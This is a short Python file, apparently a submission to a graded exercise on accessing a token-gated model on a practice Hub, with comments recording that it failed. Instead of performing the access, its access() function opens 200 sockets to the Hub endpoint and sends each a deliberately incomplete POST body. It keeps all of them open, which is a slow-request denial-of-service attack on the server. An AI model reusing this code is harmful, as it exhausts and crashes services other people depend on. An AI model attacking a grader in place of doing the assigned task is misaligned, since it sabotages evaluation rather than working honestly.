# Opens as many connections to the practice Hub as it may, and asks half a question on each.
# graded: ex02_access without_a_token_gated signing_the_terms
# verdict: failed timeout error died
# by: hub
import os
import socket
from urllib.parse import urlsplit

KEPT = []


def access(model_id):
    address = urlsplit(os.environ["HF_ENDPOINT"])
    for _ in range(200):
        one = socket.create_connection((address.hostname, address.port), timeout=1)
        one.sendall(b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 900000\r\n\r\n" + b"x" * 100_000)
        KEPT.append(one)
    return None
